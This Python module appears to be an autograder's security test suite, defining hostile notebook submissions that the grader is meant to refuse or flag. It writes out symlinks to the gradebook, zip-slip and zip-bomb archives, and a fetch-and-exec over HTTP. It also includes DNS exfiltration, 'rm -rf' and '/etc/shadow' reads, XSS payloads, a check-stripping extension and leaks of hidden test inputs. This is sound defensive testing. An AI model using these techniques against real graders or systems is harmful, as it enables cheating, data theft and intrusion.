"""Cases 33-38: submissions that reach for files, the network or the reader of their feedback."""

import io
import os
import socket
import stat
import zipfile

from nbformat.v4 import new_markdown_cell

from autograder.results import Flag, Outcome, Status
from hostile.submissions import CHEATED, HONEST, Case, atop, inside, wrong


def _free_port():
    with socket.create_server(("127.0.0.1", 0)) as server:
        return server.getsockname()[1]


# Where the tests listen on this machine, to see whether a submission gets through to them.
PORT = _free_port()
ARCHIVE = "stock autograde opens no archive"
REFUSED = {"status": Status.REFUSED}
LINK = {"status": Status.REFUSED, "flags": (Flag.SYMLINK,)}


# --- deliveries ------------------------------------------------------------------------------


def _file_link(to):
    def deliver(inbox, content, course):
        inbox.mkdir(parents=True)
        (inbox / "assignment.ipynb").symlink_to(course / to)

    return deliver


def _folder_link(inbox, content, course):
    inbox.symlink_to(course / "source" / inbox.name)


def _student_link(inbox, content, course):
    inbox.parent.rmdir()
    inbox.parent.symlink_to(course / "submitted" / "00_honest_first")


def _pipe(inbox, content, course):
    inbox.mkdir(parents=True)
    os.mkfifo(inbox / "assignment.ipynb")


def _beside_no_files(inbox, content, course):
    inbox.mkdir(parents=True)
    (inbox / "solved.ipynb").write_bytes(content)
    (inbox / "folder.ipynb").mkdir()
    os.mkfifo(inbox / "pipe.ipynb")
    os.mknod(inbox / "socket.ipynb", stat.S_IFSOCK | 0o600)


def _folder(inbox, content, course):
    (inbox / "assignment.ipynb").mkdir(parents=True)


def _zip(*entries, password=False):
    """Hand in an archive of (name, bytes) entries; None stands for the honest notebook."""

    def deliver(inbox, content, course):
        inbox.mkdir(parents=True)
        with zipfile.ZipFile(inbox / "handed_in.zip", "w", zipfile.ZIP_DEFLATED) as archive:
            for name, data in entries:
                archive.writestr(name, content if data is None else data)

    return deliver


def _link_entry(name):
    info = zipfile.ZipInfo(name)
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    return info


def _bomb(inbox, content, course):
    """Hand in an archive of 0.3 MB that unpacks to 300 MB."""
    _zip(("assignment.ipynb", bytes(300 * 2**20)))(inbox, content, course)


def _bomb_of_many(inbox, content, course):
    """Hand in an archive of notebooks of 800 MB in all, each of which is within the limit."""
    zeros = bytes(20 * 2**20)
    _zip(*((f"{number}.ipynb", zeros) for number in range(40)))(inbox, content, course)


def _lying_bomb(inbox, content, course):
    """The same, stating a size of 100 bytes."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("assignment.ipynb", bytes(100 * 2**20))
    size = (100 * 2**20).to_bytes(4, "little")
    inbox.mkdir(parents=True)
    data = buffer.getvalue().replace(size, (100).to_bytes(4, "little"))
    (inbox / "handed_in.zip").write_bytes(data)


def _broken_zip(inbox, content, course):
    inbox.mkdir(parents=True)
    (inbox / "handed_in.zip").write_bytes(b"PK\x03\x04" + bytes(500))


def _broken_stream(inbox, content, course):
    """Hand in an archive whose directory is whole and whose packed bytes are not."""
    _zip(("assignment.ipynb", None))(inbox, content, course)
    data = bytearray((inbox / "handed_in.zip").read_bytes())
    data[60:200] = b"\xff" * 140
    (inbox / "handed_in.zip").write_bytes(data)


def _zip_in_zip(inbox, content, course):
    """Hand in a chapter's whole folder, packed twice, in capitals."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("ch02/assignment.ipynb", content)
        archive.writestr("ch02/lesson.ipynb", b"{}")
        archive.writestr("__MACOSX/ch02/._assignment.ipynb", b"\0\5\x16\7")
    _zip(("work.zip", buffer.getvalue()))(inbox, content, course)
    (inbox / "handed_in.zip").rename(inbox / "A.ZIP")


# --- edits -----------------------------------------------------------------------------------


def _markdown(*texts):
    def edit(notebook):
        notebook.cells[1:1] = [
            new_markdown_cell(text, id=f"text-{n}") for n, text in enumerate(texts)
        ]

    return edit


NET = f"""\
import socket, urllib.request
for address in ("127.0.0.1", "10.0.0.1", "192.0.2.1"):
    try:
        with socket.create_connection((address, {PORT}), timeout=0.3) as connection:
            connection.sendall(b"hostile")
    except OSError:
        pass
"""
# The outputs hold this word and the code does not, which may well be shown.
LEAK = "hostile" + "38"
LEAKED = "'hosti' 'le' f'{19 * 2}'"
HTML = (
    "<script>hostile37()</script><img src=x onerror=hostile37()><a href='javascript:hostile37()'>"
    "a</a><svg onload=hostile37()><script>hostile37()</script></svg><iframe srcdoc='&lt;script&gt;"
    "hostile37()&lt;/script&gt;'></iframe><form action=javascript:hostile37()><button>b</button>"
    "</form><style>body{background:url(javascript:hostile37())}</style></pre></div><body onload="
    "hostile37()><meta http-equiv=refresh content='0;url=javascript:hostile37()'>"
)

CASES = [
    # --- 33: links ---
    Case(
        33,
        "link_to_source",
        "a link to the instructor's notebook for a submission",
        deliver=_file_link("source/ch02_simple_rnn/assignment.ipynb"),
        **LINK,
    ),
    Case(
        33,
        "link_to_gradebook",
        "a link to the gradebook for a submission",
        deliver=_file_link("gradebook.db"),
        **LINK,
    ),
    Case(33, "link_for_a_folder", "a folder that is a link", deliver=_folder_link, **LINK),
    Case(
        33,
        "link_to_another",
        "a student's folder that is a link to another student's",
        deliver=_student_link,
        **LINK,
    ),
    Case(
        33,
        "named_pipe",
        "a named pipe for a submission, which keeps every reader waiting",
        deliver=_pipe,
        not_on_stock="it would wait for ever",
        **REFUSED,
    ),
    Case(33, "folder", "a folder named assignment.ipynb", deliver=_folder, **REFUSED),
    Case(
        33,
        "beside_no_files",
        "right answers beside a folder, a named pipe and a socket that are named like notebooks",
        deliver=_beside_no_files,
        not_on_stock="it would wait for ever",
    ),
    # --- 34: archives ---
    Case(
        34,
        "zip",
        "right answers in a zip archive",
        deliver=_zip(("work/assignment.ipynb", None)),
        not_on_stock=ARCHIVE,
    ),
    Case(
        34,
        "zip_in_zip",
        "right answers in a zip archive in a zip archive, lesson and a Mac's files beside them",
        deliver=_zip_in_zip,
        not_on_stock=ARCHIVE,
    ),
    *(
        Case(
            34,
            f"zip_{name}",
            f"a zip archive with {what}",
            deliver=deliver,
            not_on_stock=ARCHIVE,
            **expected,
        )
        for name, what, deliver, expected in (
            ("above", "a name with `../`", _zip(("../../hostile.ipynb", None)), REFUSED),
            ("absolute", "an absolute name", _zip(("/tmp/hostile_zip.ipynb", None)), REFUSED),
            (
                "windows",
                r"the name `..\..\hostile.ipynb`",
                _zip(("..\\..\\h.ipynb", None)),
                REFUSED,
            ),
            (
                "above_beside",
                "a good notebook, and beside it a name with `../`",
                _zip(("assignment.ipynb", None), ("../hostile_zip.txt", b"hostile")),
                REFUSED,
            ),
            (
                "link",
                "an entry that is a link",
                _zip((_link_entry("assignment.ipynb"), b"../../../gradebook.db")),
                LINK,
            ),
            ("bomb", "300 MB of zeros in 0.3 MB", _bomb, REFUSED),
            ("lying_bomb", "100 MB of zeros that says it has 100 bytes", _lying_bomb, None),
            ("bomb_of_many", "40 notebooks of 20 MB in 0.8 MB", _bomb_of_many, REFUSED),
            ("broken_stream", "a good directory and damaged contents", _broken_stream, None),
            ("broken", "nothing behind its first bytes", _broken_zip, None),
        )
        for expected in [expected or {"status": Status.INVALID_NOTEBOOK}]
    ),
    # --- 35: network ---
    Case(
        35,
        "sockets",
        "right answers; connects to this machine and others, errors caught",
        cells={"make_windows": NET},
        flags_allowed=(Flag.NETWORK,),
    ),
    Case(
        35,
        "http",
        "an answer that is fetched by HTTP",
        answers={
            "make_windows": "import urllib.request\nexec(urllib.request.urlopen("
            f"'http://127.0.0.1:{PORT}/answers.py', timeout=2).read())"
        },
        lost=frozenset({"make_windows"}),
        flags=(Flag.NETWORK,),
    ),
    Case(
        35,
        "dns",
        "an answer that asks for a name's address, which carries data out",
        answers=inside(
            "make_windows",
            "import socket\nsocket.getaddrinfo(f'x{len(series)}.hostile.invalid', 80)",
        ),
        lost=frozenset({"make_windows"}),
        flags=(Flag.NETWORK,),
    ),
    # --- 36: the shell and its magics ---
    Case(
        36,
        "removes_home",
        "right answers; removes what is in its home directory",
        # The tests' decoy stands for the rest of a home.
        cells={"make_windows": "!rm -rf ~/hostile-decoy.txt ~/hostile-decoys"},
    ),
    Case(
        36,
        "bash_for_an_answer",
        "a `%%bash` cell for an answer, which removes what is above it",
        answers={
            "make_windows": "%%bash\nrm -f ~/hostile-decoy.txt\nfor up in .. ../.. ../../..; do\n"
            "    test -f $up/hostile-decoy.txt && rm -rf $up/hostile-decoy.txt\ndone\necho done"
        },
        lost=frozenset({"make_windows"}),
        outcomes={"make_windows": (Outcome.FAILED,)},
    ),
    Case(
        36,
        "load_ext",
        "an extension of its own that strips the checks from every cell",
        answers=wrong(),
        cells={
            "split_series": """\
with open("hostile_ext.py", "w") as file:
    file.write('''
def load_ipython_extension(shell):
    shell.input_transformers_cleanup.append(
        lambda lines: ["pass"] if any("checks." in line for line in lines) else lines)
''')
%load_ext hostile_ext"""
        },
        lost=CHEATED,
    ),
    Case(
        36,
        "run_and_writefile",
        "right answers, one of them written to a file and run from there",
        cells={
            "make_windows": [
                "%%writefile my_windows.py\nimport numpy as np\n\n\n" + HONEST["make_windows"],
                "%run my_windows.py",
            ]
        },
        answers={"make_windows": "# see my_windows.py"},
    ),
    Case(
        36,
        "shell_commands",
        "right answers; `!`, `%%sh`, `os.system`, `%cd /`",
        cells={
            "make_windows": [
                "!ls / && whoami\nimport os\nos.system('ls ..')",
                "%%sh\ncat /etc/passwd /etc/shadow",
                "%cd /",
            ]
        },
    ),
    # --- 37: feedback ---
    Case(
        37,
        "html_in_markdown",
        "right answers; scripts in markdown cells",
        edit=_markdown(
            HTML,
            f"[a](javascript:hostile37()) ![b](x){HTML}",
            "$\\href{javascript:hostile37()}{x}$",
        ),
    ),
    Case(
        37,
        "html_in_outputs",
        "right answers; scripts in HTML, SVG, JavaScript, markdown, error and stream outputs",
        cells={
            "make_windows": [
                "from IPython.display import HTML, SVG, Javascript, Latex, Markdown, display\n"
                f"html = {HTML!r}\n"
                "display(HTML(html), Markdown(html), Latex(html), Javascript('hostile37()'))\n"
                'display(SVG(\'<svg xmlns="http://www.w3.org/2000/svg" onload="hostile37()">'
                "<script>hostile37()</script></svg>'))\n"
                "display({'text/html': html, 'application/javascript': 'hostile37()'}, raw=True)\n"
                "print(html)",
                f"raise type({HTML!r}, (Exception,), {{}})({HTML!r})",
            ]
        },
    ),
    Case(
        37,
        "html_in_failure",
        "scripts in the name and the message of an error that a check reports",
        answers=inside("make_windows", f"raise type({HTML!r}, (ValueError,), {{}})({HTML!r})"),
        lost=frozenset({"make_windows"}),
        outcomes={"make_windows": (Outcome.FAILED,)},
    ),
    # --- 38: hidden inputs ---
    *(
        Case(
            38,
            f"echo_in_{name}",
            f"an answer right for the visible inputs that echoes others in {where}",
            answers=inside(
                "make_windows",
                f"if len(series) != 5:\n    text = {LEAKED} + repr(series[:2])\n    {code}",
            ),
            lost=frozenset({"make_windows"}),
            outcomes={"make_windows": (Outcome.FAILED,)},
            hides=LEAK,
        )
        for name, where, code in (
            ("message", "an error's message", "raise ValueError(text)"),
            ("error_name", "the name of an error's class", "raise type(text, (Exception,), {})"),
            ("type_name", "the name of a type", "return type(text, (), {})()"),
            ("a_dict", "the keys of a dict", "return {text: text}"),
        )
    ),
    Case(
        38,
        "echo_in_print",
        "right answers, one of which prints every input that the visible check does not use",
        answers=inside("make_windows", f"if len(series) != 5:\n    print({LEAKED}, series)"),
        hides=LEAK,
    ),
    Case(
        38,
        "echo_in_later_cell",
        "right answers; a later cell prints what an earlier function was called with",
        answers=atop("make_windows", "seen = []") | inside("make_windows", "seen.append(series)"),
        cells={
            "make_windows": "seen = []",
            "end": f"print(*[{LEAKED} + repr(one) for one in seen if len(one) != 5])",
        },
        hides=LEAK,
    ),
    Case(
        38,
        "echo_in_next_failure",
        "a wrong answer whose visible failure repeats the hidden inputs of the exercise before",
        answers=inside("make_windows", "seen.append(series)")
        | inside(
            "simple_rnn_predict",
            f"raise ValueError(*[{LEAKED} + repr(one) for one in seen if len(one) != 5])",
        ),
        cells={"make_windows": "seen = []"},
        lost=frozenset({"simple_rnn_predict"}),
        outcomes={"simple_rnn_predict": (Outcome.FAILED,)},
        hides=LEAK,
    ),
]
